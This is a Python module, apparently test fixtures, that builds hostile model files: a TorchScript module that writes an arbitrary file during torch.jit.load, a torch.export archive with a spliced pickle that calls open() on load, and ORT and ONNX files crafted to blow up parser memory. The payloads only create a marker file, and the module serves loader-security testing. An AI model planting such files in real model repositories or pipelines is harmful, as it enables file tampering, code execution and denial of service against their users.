"""Hostile files built in code: each one runs its payload (creates `marker`) if a loader executes it."""
import io
import json
import os
import pickle
import pickletools
import zipfile

import torch

_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C  # first pickle of torch.save's legacy format


class WritesOnLoad(torch.nn.Module):
    """TorchScript whose __setstate__ creates a file of the saver's choosing inside torch.jit.load."""

    def __init__(self, marker: str):
        super().__init__()
        self.path = marker
        self.scale = 2.0

    def forward(self, x):
        return x * self.scale

    @torch.jit.export
    def __getstate__(self):
        return (self.path, self.scale, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, float, bool]):
        self.path = state[0]
        self.training = state[2]
        written = torch.from_file(self.path, True, 8)  # creates (or overwrites) any path
        self.scale = state[1] + 0.0 * float(written.numel())  # used, so the JIT keeps the call


def torchscript_writing_on_load(path, marker) -> None:
    torch.jit.script(WritesOnLoad(str(marker))).save(str(path))


def pt2_with_pickled_weight(path, marker) -> None:
    """A torch.export archive whose weight is flagged `use_pickle` and stored as a pickle calling open(marker)."""
    torch.manual_seed(0)
    linear = torch.nn.Linear(4, 2).eval()
    torch.export.save(torch.export.export(linear, (torch.ones(1, 4),)), str(path))
    with zipfile.ZipFile(path) as z:
        entries = [(i.filename, z.read(i)) for i in z.infolist()]
    prefix = entries[0][0].split("/", 1)[0] + "/"
    config_name = prefix + "data/weights/model_weights_config.json"
    config = json.loads(dict(entries)[config_name])
    config["config"]["weight"]["use_pickle"] = True
    replaced = {config_name: json.dumps(config).encode(),
                prefix + "data/weights/" + config["config"]["weight"]["path_name"]:
                    _pickle_with_payload(linear.weight, marker)}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name), replaced.get(name, data))


def _pickle_with_payload(obj, marker) -> bytes:
    """torch.save's legacy format for `obj`, whose first pickle calls open(marker, 'w') before the magic number."""
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False, pickle_protocol=2)
    legacy = buf.getvalue()
    stop = next(pos for op, _, pos in pickletools.genops(io.BytesIO(legacy)) if op.name == "STOP")
    args = pickle.dumps((os.fspath(marker), "w"), protocol=2)[2:-1]
    return b"\x80\x02cbuiltins\nopen\n" + args + b"R0" + pickle.dumps(_LEGACY_MAGIC, protocol=2)[2:] + legacy[stop + 1:]


def ort_naming_one_node_over_and_over(path, entries: int) -> None:
    """An ORT-format file whose `entries` node entries all point at one node whose `entries` inputs all point at one
    name: a flatbuffer's entries are offsets, so a file of 8 bytes an entry reads as entries² names."""
    import flatbuffers
    from onnxruntime.tools.ort_format_model.ort_flatbuffers_py.fbs import Graph, Model, Node, OperatorSetId

    b = flatbuffers.Builder(1024)

    def repeated(start, offset) -> int:
        """A vector of `entries` offsets, all `offset`."""
        start(b, entries)
        for _ in range(entries):
            b.PrependUOffsetTRelative(offset)
        return b.EndVector()

    name, op = b.CreateString("x"), b.CreateString("Relu")
    inputs = repeated(Node.StartInputsVector, name)
    Node.Start(b)
    Node.AddOpType(b, op)
    Node.AddInputs(b, inputs)
    nodes = repeated(Graph.StartNodesVector, Node.End(b))
    Graph.Start(b)
    Graph.AddNodes(b, nodes)
    graph = Graph.End(b)
    domain = b.CreateString("")
    OperatorSetId.Start(b)
    OperatorSetId.AddDomain(b, domain)
    OperatorSetId.AddVersion(b, 17)
    opset = OperatorSetId.End(b)
    Model.StartOpsetImportVector(b, 1)
    b.PrependUOffsetTRelative(opset)
    opsets = b.EndVector()
    _write_ort(b, graph, path, opsets)


def onnx_of_packed_varints(path, numbers: int, fp16: bool = False) -> None:
    """A valid .onnx (a Gather from an int64 table) whose table holds `numbers` packed int64_data varints of 1 byte
    each, 8 bytes each parsed: onnx.helper's model, the table's field spliced in (a list of 16M ints built by helper
    takes seconds and a GB itself). ModelProto's graph given twice is one graph to protobuf, the second merged in.
    `fp16`: a float16 table in int32_data (as onnx.helper.make_tensor keeps fp16 weights), 4 bytes each parsed."""
    from onnx import TensorProto, helper

    def varint(value: int) -> bytes:
        out = b""
        while value > 0x7F:
            out, value = out + bytes([value & 0x7F | 0x80]), value >> 7
        return out + bytes([value])

    kind = TensorProto.FLOAT16 if fp16 else TensorProto.INT64
    x, y = (helper.make_tensor_value_info(name, kind, [4]) for name in "xy")
    nodes = [helper.make_node("Gather", ["w", "i"], ["c"]), helper.make_node("Add", ["x", "c"], ["y"])]
    graph = helper.make_graph(nodes, "g", [x], [y], [helper.make_tensor("i", TensorProto.INT64, [4], [0, 1, 2, 3])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    table = TensorProto(name="w", data_type=kind, dims=[numbers]).SerializeToString()
    table += (b"\x2a" if fp16 else b"\x3a") + varint(numbers) + b"\x01" * numbers  # int32 (5) / int64_data (7)
    initializer = b"\x2a" + varint(len(table)) + table  # GraphProto.initializer (field 5)
    path.write_bytes(model.SerializeToString() + b"\x3a" + varint(len(initializer)) + initializer)


def ort_of_inputs_naming_one_arg(path, entries: int) -> None:
    """An ORT-format file whose graph lists `entries` inputs, all naming one float node arg "x" (a string's offset
    each: 4 bytes an input, each read with its type)."""
    import flatbuffers
    from onnxruntime.tools.ort_format_model.ort_flatbuffers_py.fbs import (Graph, TensorTypeAndShape, TypeInfo,
                                                                           TypeInfoValue, ValueInfo)

    b = flatbuffers.Builder(1024)
    name = b.CreateString("x")
    TensorTypeAndShape.Start(b)
    TensorTypeAndShape.AddElemType(b, 1)
    tensor = TensorTypeAndShape.End(b)
    TypeInfo.Start(b)
    TypeInfo.AddValueType(b, TypeInfoValue.TypeInfoValue.tensor_type)
    TypeInfo.AddValue(b, tensor)
    info = TypeInfo.End(b)
    ValueInfo.Start(b)
    ValueInfo.AddName(b, name)
    ValueInfo.AddType(b, info)
    arg = ValueInfo.End(b)
    Graph.StartNodeArgsVector(b, 1)
    b.PrependUOffsetTRelative(arg)
    args = b.EndVector()
    Graph.StartInputsVector(b, entries)
    for _ in range(entries):
        b.PrependUOffsetTRelative(name)
    inputs = b.EndVector()
    Graph.Start(b)
    Graph.AddNodeArgs(b, args)
    Graph.AddInputs(b, inputs)
    graph = Graph.End(b)
    _write_ort(b, graph, path)


def _write_ort(b, graph, path, opsets=None) -> None:
    """Finish an .ort file around `graph` (IR 8, ORT version "1"), with `opsets` where given."""
    from onnxruntime.tools.ort_format_model.ort_flatbuffers_py.fbs import InferenceSession, Model

    Model.Start(b)
    Model.AddIrVersion(b, 8)
    if opsets is not None:
        Model.AddOpsetImport(b, opsets)
    Model.AddGraph(b, graph)
    model = Model.End(b)
    version = b.CreateString("1")
    InferenceSession.Start(b)
    InferenceSession.AddOrtVersion(b, version)
    InferenceSession.AddModel(b, model)
    b.Finish(InferenceSession.End(b), file_identifier=b"ORTM")
    path.write_bytes(b.Output())
